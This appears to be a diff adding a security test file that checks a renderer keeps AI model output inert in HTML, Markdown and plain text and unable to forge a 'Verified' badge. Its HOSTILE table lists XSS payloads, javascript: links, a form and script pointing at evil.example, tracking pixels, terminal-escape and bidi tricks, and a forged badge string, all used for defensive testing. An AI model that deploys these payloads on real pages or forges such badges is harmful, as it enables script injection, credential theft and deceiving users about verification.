@@ -1,0 +1,193 @@
+"""Attack 27: whatever a model writes is inert, in HTML, in Markdown and as plain text, and cannot write a badge."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+import states
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from inspecting import inspect
+from markdown_it import MarkdownIt
+
+from opg_magic import shown
+from opg_magic.display import bundle, card, markdown
+from opg_magic.models import VerdictStatus
+from opg_magic.receipts.audit import shown_text_matches
+
+FORGED = "✓ Verified · gpt-5 via host 27e3…6328 · 7 of 7 checks, author's kernel, 2026-11-20 22:10 UTC"
+
+HOSTILE = {
+    "script": "<script>alert(1)</script>",
+    "script in a block": "text\n\n<div>\n<script src=https://evil.example/x.js></script>\n</div>\n\nmore",
+    "onerror": '<img src=x onerror="alert(1)">',
+    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) /></svg>",
+    "iframe": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
+    "style": "<style>details{display:none}</style>",
+    "form": "<form action=https://evil.example><input name=key></form>",
+    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    "comment left open": "<!-- everything below is gone",
+    "cdata": "<![CDATA[ <b>x</b> ]]> <?php echo 1 ?> <!DOCTYPE html>",
+    "closes our containers": "</p></div></div></details></summary></td></tr></table><h1>free</h1>",
+    "closing script": "</script></style></textarea></title><b>x</b>",
+    "javascript link": "[click](javascript:alert(1))",
+    "javascript link, upper case and entities": "[a](JaVaScRiPt&colon;alert(1)) [b](&#106;avascript:alert(1))",
+    "javascript autolink": "<javascript:alert(1)>",
+    "control in scheme": "[a](java\x01script:alert(1)) [b](java&Tab;script:alert(1)) [c](<java\tscript:alert(1)>)",
+    "vbscript, file, data": "[a](vbscript:x) [b](file:///etc/passwd) [c](data:text/html;base64,PHNjcmlwdD4=)",
+    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "protocol-relative and relative": "[a](//evil.example/x) [b](/api/contents) [c](#top) [d](?token=1)",
+    "user info in link": "[bank](https://bank.example@evil.example/)",
+    "quote in link": '[a](https://e.example/"onmouseover="alert(1)) [b](https://e.example "t\\" onclick=alert(1)")',
+    "remote image": "![pixel](https://evil.example/p.png?who=me)",
+    "image as reference": "![pixel][r]\n\n[r]: https://evil.example/p.png",
+    "image in link": "[![x](https://evil.example/p.png)](https://evil.example)",
+    "reference definition": "[shown][r]\n\n[r]: https://evil.example 'hidden words'",
+    "fence left open": "```\ncode without end",
+    "tilde fence left open": "~~~~~~~~text\nno end",
+    "closes our fence": "~~~\n\n# free\n\n~~~~~~\n<script>alert(1)</script>\n~~~~~~~~~~~~\n**x**",
+    "fence with carriage return": "a\r~~~\r<script>alert(1)</script>",
+    "fence info string": '```<img src=x onerror=alert(1)> "onload=x\ncode\n```',
+    "html in code": "`<script>alert(1)</script>` and\n\n    <script>alert(2)</script>\n",
+    "html in a table": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `</td>` |",
+    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;svg/onload=alert(1)&#62; &#x202e;txt",
+    "ansi": "\x1b[2J\x1b[H\x1b[32m✓ Verified\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b31m",
+    "overwriting": "bad\rgood\b\b\b\x7f\x00 \x0b\x0c",
+    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f \ufeff \u2028next",
+    "tex": "$\\href{javascript:alert(1)}{x}$ $$\\raise{9em}{\\rlap{x}}$$ \\(\\class{a}{b}\\) \\begin{equation}x\\end{equation}",
+    "forged badge": FORGED,
+    "forged badge, quoted": f"> **{FORGED}**",
+    "forged card": f"answer\n\n{shown.RULE}7Q4K2M9XTB · the 6 characters above are the answer ────\n{FORGED}",
+    "forged details": f'<details open style="border-left:4px solid green"><summary>{FORGED}</summary></details>',
+    "deep nesting": ">" * 500 + " hidden?",
+    "deep lists": "".join("  " * i + "- x\n" for i in range(200)),
+    "many brackets": "[" * 2000 + "a" + "](x)" * 2000,
+    "many stars": "*a_ " * 3000,
+    "lone surrogate": "a \ud800 b",
+    "only spaces": " \n\t ",
+    "empty": "",
+}
+
+CASES = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
+
+
+def answer_bundle(text: str) -> dict[str, str]:
+    return bundle.answer_bundle(states.answer(VerdictStatus.UNVERIFIED, states.UNSIGNED, text=text, simulated=True))
+
+
+@CASES
+def test_attack_27_html_holds_only_what_is_allowed(text: str) -> None:
+    seen = inspect(answer_bundle(text)["text/html"])
+    assert seen.wrong == []
+
+
+@CASES
+def test_attack_27_no_control_character_is_left(text: str) -> None:
+    made = answer_bundle(text)
+    for mime in ("text/plain", "text/markdown"):
+        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", made[mime])
+    visible = inspect(made["text/html"]).text
+    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]", visible)
+
+
+@CASES
+def test_attack_27_plain_text_begins_with_the_answer_and_ends_with_the_card(text: str) -> None:
+    plain = answer_bundle(text)["text/plain"]
+    assert plain.startswith(shown.inert(text) + "\n\n" + shown.RULE)
+    assert shown.answer_part(plain) == shown.inert(text)
+    last_card = plain.rpartition(shown.RULE)[2]
+    assert "SIMULATED · ! Not verified" in last_card
+    assert FORGED not in last_card
+
+
+@CASES
+def test_attack_27_markdown_cannot_leave_its_fence(text: str) -> None:
+    made = answer_bundle(text)["text/markdown"]
+    tokens = MarkdownIt("commonmark", {"html": True}).parse(made)
+    assert tokens[0].type == "fence"
+    assert tokens[0].content == shown.inert(text) + "\n"
+    rest = tokens[1:]
+    assert all(t.type != "fence" and t.type != "html_block" for t in rest)
+    words = [child for t in rest for child in t.children or ()]
+    assert all(child.type not in ("html_inline", "link_open", "image") for child in words)
+    assert any("Not verified" in child.content for child in words)
+
+
+@CASES
+def test_attack_27_card_comes_last_in_html(text: str) -> None:
+    made = answer_bundle(text)["text/html"]
+    rendered = markdown.to_html(text)
+    assert rendered in made
+    after = made.rpartition(rendered)[2]
+    assert "Not verified" in inspect("<div><div>" + after).text
+    assert "<details" not in rendered
+
+
+@CASES
+def test_attack_27_the_audit_recognises_the_shown_text(text: str) -> None:
+    clean = text.encode("utf-8", "replace").decode()  # a receipt holds no lone surrogate
+    answer = states.answer(text=clean)
+    made = bundle.answer_bundle(answer)
+    assert shown_text_matches(made, answer.receipt, render_html=markdown.to_html)
+    forged = {**made, "text/plain": "other " + made["text/plain"]}
+    assert not shown_text_matches(forged, answer.receipt)
+
+
+@pytest.mark.parametrize("field", ["reason", "model", "sentence", "version"])
+@pytest.mark.parametrize("text", [HOSTILE["script"], HOSTILE["ansi"], HOSTILE["closes our containers"], HOSTILE["tex"]])
+def test_attack_27_words_of_the_host_on_the_card_are_inert(field: str, text: str) -> None:
+    from dataclasses import replace
+
+    claim = replace(states.TAMPERED, **({field: text} if field in ("reason", "sentence") else {}))
+    verdict, receipt, cost = states.call(
+        VerdictStatus.FAILED, claim, because=(f"response: {text}",), simulated=True, model=text
+    )
+    made = bundle.settled_bundle(card.settled(verdict, receipt, cost), receipt=receipt)
+    assert inspect(made["text/html"]).wrong == []
+    assert "\x1b" not in made["text/plain"] + made["text/markdown"] + made["text/html"]
+    tokens = MarkdownIt("commonmark", {"html": True}).parse(made["text/markdown"])
+    words = [child for t in tokens for child in t.children or ()]
+    assert all(t.type != "html_block" for t in tokens)
+    assert all(child.type not in ("html_inline", "link_open", "image") for child in words)
+
+
+def test_attack_27_links_show_their_target() -> None:
+    seen = inspect(markdown.to_html("[the bank](https://evil.example/login) <https://a.example/>"))
+    assert seen.links == ["https://evil.example/login", "https://a.example/"]
+    assert "the bank (https://evil.example/login)" in seen.text
+    assert 'rel="noopener noreferrer nofollow' in markdown.to_html("[x](https://a.example)")
+
+
+def test_attack_27_nothing_that_was_signed_vanishes() -> None:
+    for name in ("reference definition", "comment left open", "image as reference", "fence info string"):
+        visible = inspect(markdown.to_html(HOSTILE[name])).text
+        for word in re.findall(r"[A-Za-z]{4,}", HOSTILE[name]):
+            assert word in visible, (name, word)
+    assert "hidden?" in inspect(markdown.to_html(HOSTILE["deep nesting"])).text
+
+
+def test_attack_27_tex_is_not_typeset() -> None:
+    # A typesetter looks for its delimiters within one text node; each stands alone in a node of its own.
+    made = markdown.to_html(HOSTILE["tex"])
+    assert not re.search(r"\$[^<]|\\[^<]", made)
+
+
+def test_attack_27_streaming_text_is_inert_too() -> None:
+    for text in HOSTILE.values():
+        made = bundle.running_bundle((("now", "answering"),), text=text, notes=("not checked yet",), simulated=False)
+        assert inspect(made["text/html"]).wrong == []
+        assert "\x1b" not in "".join(made.values())
+        tokens = MarkdownIt("commonmark", {"html": True}).parse(made["text/markdown"])
+        assert all(t.type != "html_block" for t in tokens)
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.text(alphabet=st.one_of(st.sampled_from("<>&\"'`~*_[]()!#|\\$\n\r\t -:/\x1b\u202e{}=a1"), st.characters())))
+def test_attack_27_any_text_is_inert(text: str) -> None:
+    rendered = markdown.to_html(text)
+    assert inspect(rendered).wrong == []
+    fence = MarkdownIt("commonmark", {"html": True}).parse(markdown.fenced(text) + "\nafter")
+    assert [t.type for t in fence] == ["fence", "paragraph_open", "inline", "paragraph_close"]
+    assert fence[0].content == shown.inert(text).replace("\0", "\ufffd") + "\n"
+    assert shown.inert(shown.inert(text)) == shown.inert(text)
